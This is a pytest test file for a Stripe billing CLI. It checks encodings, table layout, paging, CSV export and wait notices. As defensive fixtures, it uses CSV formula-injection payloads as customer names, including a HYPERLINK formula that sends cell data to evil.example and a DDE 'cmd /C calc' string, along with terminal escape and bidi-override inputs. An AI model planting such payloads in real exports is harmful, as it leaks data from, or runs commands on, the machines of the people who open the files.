"""Output on any encoding and width, through a pager, as CSV; and what is said while Stripe lets one wait."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from stripe_billing_cli.cli import slow_notice
from stripe_billing_cli.cli.csv_output import write_csv
from stripe_billing_cli.cli.output import Printer
from stripe_billing_cli.cli.table import Column, Table, cells
from stripe_billing_cli.listener.listener import Listener
from tests.conftest import Billing
from tests.subscriptions.conftest import Shop

BILLING = Path(sys.executable).parent / "billing"
TODAY = re.compile(r"\d{1,2} \w{3} \d{4} UTC$")
COLUMNS = (Column("NAME", lambda record: record["name"]), Column("AMOUNT", lambda record: record["amount"], right=True))


@pytest.mark.parametrize(
    ("encoding", "output"),
    [
        *((encoding, "table") for encoding in ("cp1252", "iso-8859-2", "shift_jis")),
        *(("ascii", output) for output in ("table", "json", "yaml", "csv", "id")),
    ],
)
def test_every_encoding_takes_every_text(billing: Billing, shop: Shop, encoding: str, output: str) -> None:
    shop.customer(name="Zoë Łódź 株式会社 ☃ 😀", email="zoe@example.com")
    command = [BILLING, "customer", "list", "--local", "--output", output]
    environment = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}

    ran = subprocess.run(command, cwd=billing.directory, env=environment, capture_output=True, check=False)

    assert ran.returncode == 0, ran.stderr
    text = ran.stdout.decode(encoding)
    assert "cus_" in text
    if output == "json":
        assert json.loads(text)["name"] == "Zoë Łódź 株式会社 ☃ 😀"


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252", "ascii"])
def test_columns_stand_below_each_other_whatever_a_name_has(billing: Billing, shop: Shop, encoding: str) -> None:
    for name in ("Ada", "Jürgen Groß", "\u0645\u062d\u0645\u062f", "\u202eevil", "Nam\te\nx", "100 → 200 €"):
        shop.customer(name=name, email="ada@example.com")
    ran = subprocess.run(
        [BILLING, "customer", "list", "--local"],
        cwd=billing.directory,
        env={**os.environ, "PYTHONIOENCODING": encoding},
        capture_output=True,
        check=True,
    )

    title, *rows = ran.stdout.decode(encoding).splitlines()
    begun = title.index("CREATED")
    assert len(rows) == 6
    assert {cells(row) - cells(TODAY.search(row)[0]) for row in rows} == {begun}  # type: ignore[index]


def test_what_ascii_lacks_is_shown_by_what_is_like_it(billing: Billing) -> None:
    billing.write("version: 1\ncatalog: shop\nproducts:\n  pro: {name: Pro}\n")
    billing.ok("catalog", "apply", "--local")
    billing.write("version: 1\ncatalog: shop\nproducts:\n  pro: {name: More}\n")
    environment = {**os.environ, "PYTHONIOENCODING": "ascii"}

    ran = subprocess.run(
        [BILLING, "catalog", "plan", "--local"],
        cwd=billing.directory,
        env=environment,
        capture_output=True,
        text=True,
        check=True,
    )
    help_ = subprocess.run([BILLING, "help"], env=environment, capture_output=True, text=True, check=True)

    assert "name: Pro -> More" in ran.stdout
    assert "COMMAND ..." in help_.stdout


def test_a_column_is_as_wide_as_a_terminal_shows_it() -> None:
    table = Table([{"name": "株式会社", "amount": "1"}, {"name": "Ada", "amount": "10"}], COLUMNS, 80)

    assert [table.title, *table.lines()] == ["NAME      AMOUNT", "株式会社       1", "Ada           10"]
    assert cells("é") == cells("e\u0301") == 1


def test_a_table_that_is_too_wide_is_a_block_for_each_record() -> None:
    table = Table([{"name": "x" * 30, "amount": "1"}, {"name": "y", "amount": "10"}], COLUMNS, 20)

    assert table.title is None
    assert list(table.lines()) == [f"NAME    {'x' * 30}", "AMOUNT  1", "", "NAME    y", "AMOUNT  10"]
    assert table.count == 2


class Terminal(io.StringIO):
    encoding = "utf-8"

    def isatty(self) -> bool:
        return True


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> Terminal:
    """A terminal of 24 lines, and a pager that writes what it is given into a file."""
    shown = Terminal()
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setenv("LINES", "24")
    monkeypatch.setenv("PAGER", f'"{sys.executable}" -c \'import sys; open("paged", "w").write(sys.stdin.read())\'')
    return shown


@pytest.mark.parametrize(
    ("customers", "options", "is_paged"), [(30, (), True), (3, (), False), (30, ("--no-pager",), False)]
)
def test_a_long_table_is_paged_on_a_terminal(
    billing: Billing,
    shop: Shop,
    terminal: Terminal,
    monkeypatch: pytest.MonkeyPatch,
    customers: int,
    options: tuple[str, ...],
    is_paged: bool,
) -> None:
    for number in range(customers):
        shop.customer(email=f"{number}@example.com")

    monkeypatch.setattr(sys, "stdout", terminal)  # not in the fixture: pytest puts its own there after setting up
    assert billing("customer", "list", "--local", *options).code == 0

    paged = billing.directory / "paged"
    assert paged.exists() == is_paged
    shown = paged.read_text(encoding="utf-8") if is_paged else terminal.getvalue()
    assert shown.count("@example.com") == customers


def test_nothing_is_paged_where_nobody_looks(billing: Billing, shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PAGER", "false")
    for number in range(40):
        shop.customer(email=f"{number}@example.com")

    assert billing.ok("customer", "list", "--local").out.count("@example.com") == 40


def test_a_list_comes_as_csv(billing: Billing, shop: Shop) -> None:
    shop.customer(name='Ada "the first", Countess', metadata={"plan": "gold"})
    shop.customer(name="two\nlines\x1b[2J")

    rows = list(csv.DictReader(io.StringIO(billing.ok("customer", "list", "--local", "--output", "csv").out)))
    [first] = [json.loads(line) for line in billing.ok("customer", "list", "--local", "-o", "json").out.splitlines()][
        :1
    ]

    assert [row["name"] for row in rows] == ["two\nlines\\x1b[2J", 'Ada "the first", Countess']
    assert list(rows[0]) == list(first)
    assert json.loads(rows[1]["metadata"]) == {"plan": "gold"}


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "\N{EN DASH}2+3",
    ],
)
def test_a_name_is_no_formula_in_csv(billing: Billing, shop: Shop, formula: str) -> None:
    shop.customer(name=formula)

    [row] = csv.DictReader(io.StringIO(billing.ok("customer", "list", "--local", "--output", "csv").out, newline=""))

    assert row["name"] == f"'{formula}"
    assert billing.ok("customer", "list", "--local", "--output", "json").json["name"] == formula


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("\t=1+1", "'\t=1+1"),
        (" =1+1", "' =1+1"),
        (-1500, "-1500"),
        ("-1500.25", "-1500.25"),
        ("+14155550100", "+14155550100"),
        ("ada+shop@example.com", "ada+shop@example.com"),
        ({"plan": "=1+1"}, '{"plan": "=1+1"}'),
        ("", ""),
        (None, ""),
    ],
)
def test_a_blank_hides_no_formula_and_other_values_are_as_they_are_in_csv(
    value: object, cell: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert write_csv([{"value": value, "next": 1}]) == 1

    [row] = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
    assert row["value"] == cell


def test_csv_may_be_said_wherever_the_output_is(billing: Billing, shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    expected = billing.ok("customer", "list", "--local", "--output", "csv").out
    assert billing.ok("--output", "csv", "customer", "list", "--local").out == expected

    monkeypatch.setenv("BILLING_OUTPUT", "csv")
    assert billing.ok("customer", "list", "--local").out == expected
    shown = billing("customer", "show", "cus_1", "--local")  # as a default it is that of lists alone
    assert shown.err.startswith("Error: there is no customer cus_1")
    refused = billing("--output", "csv", "customer", "show", "cus_1", "--local")
    assert (refused.code, "--output csv is for lists" in refused.err) == (2, True)


@pytest.mark.parametrize("argv", [("customer", "create"), ("doctor",), ("sub", "watch", "sub_1")])
def test_csv_is_refused_before_anything_is_done_where_there_is_no_list(billing: Billing, argv: tuple[str, ...]) -> None:
    ran = billing(*argv, "--local", "--output", "csv")

    assert (ran.code, ran.out) == (2, "")
    assert "'csv' is not one of table, json, yaml, id" in ran.err
    assert billing.ok("customer", "list", "--local", "--output", "id").out == ""


@pytest.mark.parametrize("output", ["json", "yaml", "id", "csv"])
def test_no_wait_is_told_once_the_first_of_many_objects_is_printed(output: str) -> None:
    printer = Printer(output)
    spoken = []

    def records() -> Iterator[dict[str, str]]:
        for id in ("cus_1", "cus_2"):
            spoken.append(printer.has_spoken)
            yield {"id": id}

    printer.records(records(), ())

    assert spoken == [False, True]


@pytest.mark.parametrize("output", ["table", "json", "csv"])
def test_a_wait_is_told_once_it_is_long_in_a_pipe_too(
    billing: Billing, monkeypatch: pytest.MonkeyPatch, shop: Shop, output: str
) -> None:
    printed = threading.Event()

    class WatchedStream(io.StringIO):
        def write(self, text: str) -> int:
            if "Waiting for Stripe for" in text:
                printed.set()
            return super().write(text)

    shop.customer(email="ada@example.com")
    monkeypatch.setattr(slow_notice, "FIRST", 0.01)
    monkeypatch.setattr(sys, "stderr", WatchedStream())
    original = shop.api.__class__.page

    def slow(*arguments: object, **options: object) -> object:
        assert printed.wait(30)
        return original(*arguments, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(shop.api.__class__, "page", slow)

    assert billing("customer", "list", "--local", "--email", "ada@example.com", "--output", output).code == 0
    assert printed.is_set()


def test_a_wait_is_told_by_what_comes_to_an_end_and_not_beside_a_log(
    billing: Billing, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun: list[slow_notice.SlowNotice] = []
    monkeypatch.setattr(slow_notice.SlowNotice, "begin", lambda notice: begun.append(notice))
    monkeypatch.setattr(Listener, "run", lambda listener, on_ready: on_ready())

    assert billing("listen", "--local", "--source", "poll", "--port", "0", "--admin", "off").code == 0
    assert begun == []
    assert billing("customer", "list", "--local").code == 0
    assert len(begun) == 1


@pytest.mark.parametrize("width", [40, 60])
def test_what_is_shown_of_one_object_is_folded_between_words(
    billing: Billing, shop: Shop, terminal: Terminal, monkeypatch: pytest.MonkeyPatch, width: int
) -> None:
    made = shop.subscription(shop.with_card(email="ada@example.com")["id"], shop.price()["id"])
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setattr(sys, "stdout", terminal)

    assert billing("sub", "show", made["id"], "--local").code == 0

    lines = re.sub(r"\x1b\[[0-9;]*m", "", terminal.getvalue()).splitlines()
    assert [line for line in lines if len(line) > width and len(line.split()) > 2] == []
    assert any(re.match(r" {15}\S", line) for line in lines)
    assert any(re.fullmatch(r" {6}http://\S+", line) for line in lines)
